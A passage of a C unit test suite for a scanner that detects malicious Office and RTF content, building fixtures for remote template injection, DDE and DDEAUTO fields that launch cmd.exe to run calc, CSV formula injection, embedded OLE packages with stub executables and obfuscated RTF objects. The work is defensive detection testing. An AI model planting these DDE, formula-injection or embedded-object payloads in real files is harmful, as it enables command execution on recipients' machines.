	expect_xlsx_macrosheet("xlsm hidden", "xlsm", "state=\"hidden\"", "macro-xlm-hidden", NULL, A_REJECT);
	expect_xlsx_macrosheet("xlsm veryHidden", "xlsm", "state=\"veryHidden\"", "macro-xlm-hidden", NULL, A_REJECT);
	expect_xlsx_macrosheet("xltm template", "xltm", "", "macro-xlm", NULL, A_QUAR);
	check_done();
}

/* ---- OOXML relationships, DDE, embedded objects ------------------------- */

static void
test_template_injection(void **state)
{
	(void)state;
	static const char *const remote[] = {
		"http://198.51.100.7/t.dotm", "https://example.com/templates/x.dotx",
		"\\\\203.0.113.9\\share\\t.dotm", "file://fileserver/share/t.dotm",
		"HTTP://EXAMPLE.ORG/T.DOTM?x=1",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(remote); i++) {
		char *rels = g_markup_printf_escaped(RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
			"attachedTemplate\" Target=\"%s\" TargetMode=\"External\"/>" RELS_END, remote[i]);
		expect_docx(remote[i], NULL, NULL, rels, "office-template-injection", NULL,
			    A_QUAR, A_REJECT);
		g_free(rels);
	}
	/* The local template of every corporate document. */
	static const char *const local[] = {
		"file:///C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
		"C:\\Program Files\\Microsoft Office\\Templates\\Letter.dotx", "Normal.dotm",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(local); i++) {
		char *rels = g_markup_printf_escaped(RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
			"attachedTemplate\" Target=\"%s\" TargetMode=\"External\"/>" RELS_END, local[i]);
		expect_docx(local[i], NULL, NULL, rels, NULL,
			    "office-template-injection,office-external-link", A_ACCEPT, A_TAG);
		g_free(rels);
	}
	check_done();
}

/* webSettings frame to a remote template and an external oleObject. */
static void
test_external_links(void **state)
{
	(void)state;
	fx_part parts[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"word/document.xml\"/>" RELS_END, 0},
		{"word/document.xml", DOC_PLAIN, 0},
		{"word/_rels/webSettings.xml.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "frame\" Target=\"http://192.0.2.5/frame.dotm\" TargetMode=\"External\"/>" RELS_END, 0},
	};
	expect_zip("frame.docx", parts, G_N_ELEMENTS(parts), "office-template-injection", NULL,
		   A_QUAR, A_REJECT);

	expect_docx("oleobject-link.docx", NULL, RELS_HEAD "<Relationship Id=\"rId5\" Type=\"" REL_NS
		    "oleObject\" Target=\"http://example.com/x.doc\" TargetMode=\"External\"/>" RELS_END,
		    NULL, "office-external-link", "office-template-injection", A_BANNER, A_REJECT);
	/* Hyperlinks only. */
	expect_docx("links.docx",
		    DOC_BODY("<w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>site</w:t></w:r></w:hyperlink></w:p>"),
		    RELS_HEAD "<Relationship Id=\"rId4\" Type=\"" REL_NS
		    "hyperlink\" Target=\"http://tika.apache.org/\" TargetMode=\"External\"/>" RELS_END,
		    NULL, NULL, "office-external-link,office-template-injection", A_ACCEPT, A_TAG);
	/* Linked (not embedded) picture: INCLUDEPICTURE-style remote image relationship. */
	expect_docx("linked-image.docx", NULL, RELS_HEAD "<Relationship Id=\"rId7\" Type=\"" REL_NS
		    "image\" Target=\"http://example.com/logo.png\" TargetMode=\"External\"/>" RELS_END,
		    NULL, NULL, "office-template-injection", A_ACCEPT, A_REJECT);
	/* External workbook link to a local file. */
	fx_part xl[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"xl/workbook.xml\"/>" RELS_END, 0},
		{"xl/workbook.xml", XML_HEAD "<workbook " WB_NS "><sheets/></workbook>", 0},
		{"xl/externalLinks/externalLink1.xml", XML_HEAD "<externalLink " WB_NS
		 "><externalBook r:id=\"rId1\"/></externalLink>", 0},
		{"xl/externalLinks/_rels/externalLink1.xml.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "externalLinkPath\" Target=\"file:///C:\\Budget\\2023.xlsx\" TargetMode=\"External\"/>" RELS_END, 0},
	};
	expect_zip("extbook.xlsx", xl, G_N_ELEMENTS(xl), NULL,
		   "office-external-link,office-dde", A_ACCEPT, A_TAG);
	check_done();
}

static void
test_dde_ooxml(void **state)
{
	(void)state;
	/* Split over runs, in a header, in fldSimple. */
	expect_docx("dde-runs.docx", DOC_BODY(
		"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		"<w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r>"
		"<w:r><w:instrText>AUTO \"C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\cmd.exe\" \"/k calc\"</w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"),
		NULL, NULL, "office-dde", NULL, A_QUAR, A_REJECT);
	expect_docx("dde-simple.docx", DOC_BODY(
		"<w:p><w:fldSimple w:instr=\" DDE cmd &quot;/c calc&quot; A1\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"),
		NULL, NULL, "office-dde", NULL, A_QUAR, A_REJECT);
	fx_part hdr[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"word/document.xml\"/>" RELS_END, 0},
		{"word/document.xml", DOC_PLAIN, 0},
		{"word/header1.xml", XML_HEAD "<w:hdr " W_NS "><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
		 "<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>"
		 "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:hdr>", 0},
	};
	expect_zip("dde-header.docx", hdr, G_N_ELEMENTS(hdr), "office-dde", NULL, A_QUAR, A_REJECT);
	/* An ordinary PAGE / HYPERLINK field is not DDE. */
	expect_docx("fields.docx", DOC_BODY(
		"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>"
		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
		"<w:fldSimple w:instr=\" HYPERLINK &quot;http://example.com/&quot; \"/></w:p>"),
		NULL, NULL, NULL, "office-dde,office-external-link", A_ACCEPT, A_TAG);

	/* xlsx: ddeLink and a cell formula. */
	fx_part ddel[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"xl/workbook.xml\"/>" RELS_END, 0},
		{"xl/workbook.xml", XML_HEAD "<workbook " WB_NS "><sheets/></workbook>", 0},
		{"xl/externalLinks/externalLink1.xml", XML_HEAD "<externalLink " WB_NS
		 "><ddeLink ddeService=\"cmd\" ddeTopic=\" /C Calc\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/>"
		 "</ddeItems></ddeLink></externalLink>", 0},
	};
	expect_zip("ddelink.xlsx", ddel, G_N_ELEMENTS(ddel), "office-dde", NULL, A_QUAR, A_REJECT);
	fx_part cell[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"xl/workbook.xml\"/>" RELS_END, 0},
		{"xl/workbook.xml", XML_HEAD "<workbook " WB_NS "><sheets/></workbook>", 0},
		{"xl/worksheets/sheet1.xml", XML_HEAD "<worksheet " WB_NS "><sheetData><row r=\"1\"><c r=\"A1\">"
		 "<f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>", 0},
	};
	expect_zip("ddecell.xlsx", cell, G_N_ELEMENTS(cell), "office-dde", NULL, A_QUAR, A_REJECT);

	/* xlsb: BrtBeginSupBook (record 360) with sbt 1 = DDE; sbt 0 = workbook. */
	for (int sbt = 1; sbt >= 0; sbt--) {
		GByteArray *bin = g_byte_array_new();
		guint8 rh[3] = {0xE8, 0x02, 0}; /* 360 as a two-byte varint */
		GByteArray *body = g_byte_array_new();
		le16(body, (unsigned)sbt);
		le32(body, 3);
		for (const char *c = "cmd"; *c; c++)
			le16(body, (unsigned char)*c);
		le32(body, 8);
		for (const char *c = "/c calc!"; *c; c++)
			le16(body, (unsigned char)*c);
		rh[2] = (guint8)body->len;
		g_byte_array_append(bin, rh, 3);
		g_byte_array_append(bin, body->data, body->len);
		fx_part xb[] = {
			{"[Content_Types].xml", CT_HEAD "</Types>", 0},
			{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
			 "officeDocument\" Target=\"xl/workbook.bin\"/>" RELS_END, 0},
			{"xl/workbook.bin", "\x83\x01\x00", 3},
			{"xl/externalLinks/externalLink1.bin", (const char *)bin->data, bin->len},
		};
		if (sbt)
			expect_zip("dde.xlsb", xb, G_N_ELEMENTS(xb), "office-dde", NULL, A_QUAR, A_REJECT);
		else
			expect_zip("extbook.xlsb", xb, G_N_ELEMENTS(xb), NULL, "office-dde", A_ACCEPT, A_TAG);
		g_byte_array_free(body, TRUE);
		g_byte_array_free(bin, TRUE);
	}
	check_done();
}

/* OLE "Package" object (Ole10Native) carrying a file. */
static GByteArray *
ole_package_bin(const char *fname, const void *data, size_t len)
{
	GByteArray *nat = g_byte_array_new();
	GByteArray *b = g_byte_array_new();
	le16(b, 2);
	g_byte_array_append(b, (const guint8 *)fname, (guint)strlen(fname) + 1);
	char *src = g_strconcat("C:\\Users\\u\\", fname, NULL);
	g_byte_array_append(b, (const guint8 *)src, (guint)strlen(src) + 1);
	le32(b, 0x00030000);
	char *tmp = g_strconcat("C:\\Temp\\", fname, NULL);
	le32(b, (uint32_t)strlen(tmp) + 1);
	g_byte_array_append(b, (const guint8 *)tmp, (guint)strlen(tmp) + 1);
	le32(b, (uint32_t)len);
	g_byte_array_append(b, data, (guint)len);
	le32(nat, b->len);
	g_byte_array_append(nat, b->data, b->len);
	g_byte_array_free(b, TRUE);
	g_free(src);
	g_free(tmp);
	return nat;
}

/* A tiny PE image (MZ + PE header) good enough for the type detector. */
static GByteArray *
tiny_pe(void)
{
	GByteArray *p = g_byte_array_sized_new(512);
	g_byte_array_set_size(p, 512);
	memset(p->data, 0, 512);
	p->data[0] = 'M';
	p->data[1] = 'Z';
	p->data[0x3C] = 0x80;
	memcpy(p->data + 0x80, "PE\0\0", 4);
	p->data[0x84] = 0x4C;
	p->data[0x85] = 0x01;
	p->data[0x86] = 1;
	p->data[0x94] = 0xE0;
	p->data[0x96] = 0x02;
	p->data[0x98] = 0x0B;
	p->data[0x99] = 0x01;
	return p;
}

/* oleObject1.bin: a CFB with \1Ole10Native. */
static GByteArray *
ole_object_bin(const char *fname, const void *data, size_t len)
{
	olefix f;
	olefix_begin(&f);
	GByteArray *nat = ole_package_bin(fname, data, len);
	olefix_stream(f.root, "\001Ole10Native", nat->data, nat->len);
	g_byte_array_free(nat, TRUE);
	return olefix_end(&f);
}

static void
test_embedded_ooxml(void **state)
{
	(void)state;
	GByteArray *pe = tiny_pe();
	GByteArray *obj = ole_object_bin("invoice.exe", pe->data, pe->len);
	static const char *const hosts[][3] = {
		{"docx", "word/document.xml", "word/embeddings/oleObject1.bin"},
		{"xlsx", "xl/workbook.xml", "xl/embeddings/oleObject1.bin"},
		{"pptx", "ppt/presentation.xml", "ppt/embeddings/oleObject1.bin"},
	};
	for (size_t i = 0; i < G_N_ELEMENTS(hosts); i++) {
		char *root = g_strdup_printf(RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
					     "officeDocument\" Target=\"%s\"/>" RELS_END, hosts[i][1]);
		fx_part parts[] = {
			{"[Content_Types].xml", CT_HEAD "</Types>", 0},
			{"_rels/.rels", root, 0},
			{hosts[i][1], XML_HEAD "<root/>", 0},
			{hosts[i][2], (const char *)obj->data, obj->len},
		};
		char *name = g_strdup_printf("objects.%s", hosts[i][0]);
		expect_zip(name, parts, G_N_ELEMENTS(parts), "office-embedded-object,executable",
			   NULL, A_REJECT, A_REJECT);
		g_free(name);
		g_free(root);
	}
	/* A chart's data workbook is no embedded object. */
	fx_part chart[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"word/document.xml\"/>" RELS_END, 0},
		{"word/document.xml", DOC_PLAIN, 0},
		{"word/_rels/document.xml.rels", RELS_HEAD "<Relationship Id=\"rId3\" Type=\"" REL_NS
		 "chart\" Target=\"charts/chart1.xml\"/>" RELS_END, 0},
		{"word/charts/chart1.xml", XML_HEAD "<c:chartSpace xmlns:c=\"x\"/>", 0},
		{"word/charts/_rels/chart1.xml.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "package\" Target=\"../embeddings/Microsoft_Excel_Worksheet.xlsx\"/>" RELS_END, 0},
		{"word/embeddings/Microsoft_Excel_Worksheet.xlsx", "PK\003\004not really", 0},
	};
	expect_zip("chart.docx", chart, G_N_ELEMENTS(chart), NULL, "office-embedded-object",
		   A_ACCEPT, A_TAG);
	g_byte_array_free(obj, TRUE);
	g_byte_array_free(pe, TRUE);
	check_done();
}

/* ---- RTF ------------------------------------------------------------------ */

/* Hex of bytes, lower or upper case, with a line break every `wrap` digits. */
static void
hex_append(GString *s, const guint8 *p, size_t n, bool upper, size_t wrap)
{
	for (size_t i = 0; i < n; i++) {
		g_string_append_printf(s, upper ? "%02X" : "%02x", p[i]);
		if (wrap && (i * 2 + 2) % wrap == 0)
			g_string_append(s, "\r\n");
	}
}

/* OLE1 embedded-object header (OLEVersion, FormatID 2, class, topic, item, size) + data. */
static GByteArray *
ole1_embedded(const char *cls, const void *data, size_t len)
{
	GByteArray *b = g_byte_array_new();
	le32(b, 0x00000501);
	le32(b, 2);
	le32(b, (uint32_t)strlen(cls) + 1);
	g_byte_array_append(b, (const guint8 *)cls, (guint)strlen(cls) + 1);
	le32(b, 0);
	le32(b, 0);
	le32(b, (uint32_t)len);
	g_byte_array_append(b, data, (guint)len);
	return b;
}

/* An RTF with one Package object holding `fname`. */
static char *
rtf_package(const char *fname, const void *data, size_t len, int style)
{
	GByteArray *nat = ole_package_bin(fname, data, len);
	/* OLE1 Package: the native data is the Ole10Native body without its size. */
	GByteArray *o1 = ole1_embedded("Package", nat->data + 4, nat->len - 4);
	GString *s = g_string_new("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\r\n"
				  "\\pard Please see the attachment.\\par\r\n");
	if (style == 0) {
		g_string_append(s, "{\\object\\objemb{\\*\\objclass Package}\\objw1\\objh1{\\*\\objdata ");
		hex_append(s, o1->data, o1->len, false, 128);
	} else {
		/* Obfuscated: \objupdate, junk groups, upper case, whitespace. */
		g_string_append(s, "{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata \r\n");
		GString *h = g_string_new(NULL);
		hex_append(h, o1->data, o1->len, true, 0);
		for (size_t i = 0; i < h->len; i++) {
			g_string_append_c(s, h->str[i]);
			if (i % 37 == 5)
				g_string_append(s, "{\\*\\pnseclvl9 junk}");
			if (i % 53 == 7)
				g_string_append(s, " \t\r\n");
		}
		g_string_free(h, TRUE);
	}
	g_string_append(s, "}}\r\n\\par}\r\n");
	g_byte_array_free(o1, TRUE);
	g_byte_array_free(nat, TRUE);
	return g_string_free(s, FALSE);
}

static void
test_rtf(void **state)
{
	(void)state;
	GByteArray *pe = tiny_pe();
	for (int style = 0; style < 2; style++) {
		char *r = rtf_package("clam.exe", pe->data, pe->len, style);
		expect_raw(style ? "obf.rtf" : "pkg.rtf", r, strlen(r), "rtf-object,executable",
			   NULL, A_REJECT, A_REJECT);
		g_free(r);
	}
	const char js[] = "WScript.Echo(\"hi\");\r\n";
	char *r = rtf_package("readme.js", js, sizeof js - 1, 0);
	expect_raw("js.rtf", r, strlen(r), "rtf-object,script", NULL, A_REJECT, A_REJECT);
	g_free(r);
	/* RTF renamed .doc. */
	r = rtf_package("clam.exe", pe->data, pe->len, 0);
	expect_raw("letter.doc", r, strlen(r), "rtf-object,executable", NULL, A_REJECT, A_REJECT);
	g_free(r);

	/* Equation.3 (CVE-2017-11882 style), no payload. */
	GByteArray *eq = ole1_embedded("Equation.3", "\x1c\x00\x00\x00\x02\x00", 6);
	GString *s = g_string_new("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata ");
	hex_append(s, eq->data, eq->len, false, 0);
	g_string_append(s, "}}}");
	expect_raw("eq.rtf", s->str, s->len, "rtf-object", NULL, A_QUAR, A_REJECT);
	g_string_free(s, TRUE);
	g_byte_array_free(eq, TRUE);

	/* OLE2Link class. */
	GByteArray *ln = ole1_embedded("OLE2Link", "\0\0\0\0", 4);
	s = g_string_new("{\\rtf1{\\object\\objautlink{\\*\\objclass OLE2Link}{\\*\\objdata ");
	hex_append(s, ln->data, ln->len, false, 0);
	g_string_append(s, "}}}");
	expect_raw("link.rtf", s->str, s->len, "rtf-object", NULL, A_QUAR, A_REJECT);
	g_string_free(s, TRUE);
	g_byte_array_free(ln, TRUE);

	/* Plain RTF: nothing. */
	const char *plain = "{\\rtf1\\ansi{\\fonttbl{\\f0 Times;}}\\pard Hello {\\b world}\\par}";
	expect_raw("plain.rtf", plain, strlen(plain), NULL, "rtf-object,office-dde", A_ACCEPT, A_TAG);

	/* DDEAUTO in a field. */
	const char *dde = "{\\rtf1\\ansi\\pard {\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\"
		"system32\\\\cmd.exe \"/k calc.exe\"}}{\\fldrslt {x}}}\\par}";
	expect_raw("dde.rtf", dde, strlen(dde), "office-dde", NULL, A_QUAR, A_REJECT);
	/* Split over groups and hex escapes: D\'44E... */
	const char *dde2 = "{\\rtf1\\ansi\\pard {\\field{\\*\\fldinst {D}{\\'44}{EAUTO \"cmd\" \"/c calc\"}}"
		"{\\fldrslt x}}\\par}";
	expect_raw("dde2.rtf", dde2, strlen(dde2), "office-dde", NULL, A_QUAR, A_REJECT);
	/* Text about DDE outside a field, and a HYPERLINK field: nothing. */
	const char *talk = "{\\rtf1\\ansi\\pard The DDEAUTO field is described here. "
		"{\\field{\\*\\fldinst HYPERLINK \"http://example.com\"}{\\fldrslt link}}\\par}";
	expect_raw("talk.rtf", talk, strlen(talk), NULL, "office-dde,rtf-object", A_ACCEPT, A_TAG);
	g_byte_array_free(pe, TRUE);
	check_done();
}

/* DDE in a .doc WordDocument stream (8-bit and UTF-16 text). */
static void
test_dde_doc(void **state)
{
	(void)state;
	for (int wide = 0; wide < 2; wide++) {
		GByteArray *wd = g_byte_array_new();
		guint8 fib[0x200] = {0xEC, 0xA5, 0xC1, 0x00};
		g_byte_array_append(wd, fib, sizeof fib);
		const char *txt = "\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \x14x\x15";
		for (const char *p = txt; *p; p++) {
			g_byte_array_append(wd, (const guint8 *)p, 1);
			if (wide)
				g_byte_array_append(wd, (const guint8 *)"", 1);
		}
		olefix f;
		olefix_begin(&f);
		olefix_stream(f.root, "WordDocument", wd->data, wd->len);
		olefix_stream(f.root, "1Table", fib, 64);
		GByteArray *doc = olefix_end(&f);
		expect_raw(wide ? "dde16.doc" : "dde8.doc", doc->data, doc->len, "office-dde",
			   NULL, A_QUAR, A_REJECT);
		g_byte_array_free(doc, TRUE);
		g_byte_array_free(wd, TRUE);
	}
	check_done();
}

/* DDE formulas in a CSV (oletools dde-in-csv) and Word 2003 XML. */
static void
test_dde_text(void **state)
{
	(void)state;
	const char *csv = "Name,Amount\r\nA,1\r\n=cmd|' /C calc'!A0,2\r\n";
	expect_raw("export.csv", csv, strlen(csv), "office-dde", NULL, A_QUAR, A_REJECT);
	const char *csv2 = "a,b\r\n\"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\",x\r\n";
	expect_raw("export2.csv", csv2, strlen(csv2), "office-dde", NULL, A_QUAR, A_REJECT);
	const char *obf = "x\r\n-2+3+cmd|' /C calc'!A0\r\n";
	expect_raw("obf.csv", obf, strlen(obf), "office-dde", NULL, A_QUAR, A_REJECT);
	const char *plain = "Name,Total\r\nA,=SUM(B1:B3)\r\npipe|char,3\r\n- note | really!\r\n";
	expect_raw("plain.csv", plain, strlen(plain), NULL, "office-dde", A_ACCEPT, A_TAG);
	const char *xml = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
		"<?mso-application progid=\"Word.Document\"?>\r\n"
		"<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body><w:p>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
		"\"/k calc.exe\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:wordDocument>\r\n";
	expect_raw("dde-2003.xml", xml, strlen(xml), "office-dde", NULL, A_QUAR, A_REJECT);
	check_done();
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_vba_ole),
		cmocka_unit_test(test_vba_ooxml_flavours),
		cmocka_unit_test(test_vba_two_modules),
		cmocka_unit_test(test_vba_raw_chunk),
		cmocka_unit_test(test_vba_bad_offset),
		cmocka_unit_test(test_xlm_biff),
		cmocka_unit_test(test_dde_xls),
		cmocka_unit_test(test_xlm_ooxml),
		cmocka_unit_test(test_template_injection),
		cmocka_unit_test(test_external_links),
		cmocka_unit_test(test_dde_ooxml),
		cmocka_unit_test(test_embedded_ooxml),
		cmocka_unit_test(test_rtf),
		cmocka_unit_test(test_dde_doc),
		cmocka_unit_test(test_dde_text),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
